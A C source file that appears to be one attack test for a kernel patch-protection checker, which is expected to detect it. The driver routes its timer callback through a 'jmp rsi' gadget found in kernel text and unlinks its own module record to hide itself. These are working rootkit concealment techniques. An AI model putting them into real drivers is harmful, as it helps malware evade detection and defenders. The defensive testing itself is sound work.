/* attack_a53_hide_gadget (A53): hide a driver whose timer runs through a
 * kernel jmp rsi. Its routine then lies in kernel text. Finds a `jmp rsi` (FF E6) in the
 * kernel's text pages and makes it its periodic timer's DPC routine, with
 * its own routine as the DPC's context: the DPC is called as fn(dpc, ctx),
 * so the gadget jumps to it with the same arguments. Then removes its
 * module record from the module list and table as attack_a45 does.
 * Expected: 0x109 type 0x19 (a timer's routine in kernel text that is no
 * routine of the kernel's own timers). */
#include "attack.h"
#include <kpp/module.h>

static struct ktimer beat;
static struct dpc beat_dpc;
static uint64_t beats;

static void tick(struct dpc *d, void *ctx)
{
	if (++beats == 20)
		printk("attack_a53: hidden timer routine ran 20 times through the kernel's jmp rsi\n");
}

status_t driver_entry(struct driver_object *drv)
{
	static const uint8_t jmp_rsi[2] = {0xFF, 0xE6};
	uint64_t gadget = a_find(A_TEXT, jmp_rsi, sizeof jmp_rsi);
	struct module *m = a_module_of(drv);
	uint64_t *slot = a_module_slot(m);
	if (!gadget || !slot) {
		printk("attack_a53: no jmp rsi in kernel text, or the module table slot not found\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	dpc_init(&beat_dpc, (dpc_fn)gadget, (void *)&tick);
	timer_init(&beat, &beat_dpc);
	timer_set(&beat, 10000000ull, 10000000ull);
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	a_hide_module(m, slot);
	printk("attack_a53: module record removed from the module list and table, its timer routed through a kernel jmp rsi\n");
	a_patched("attack_a53");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
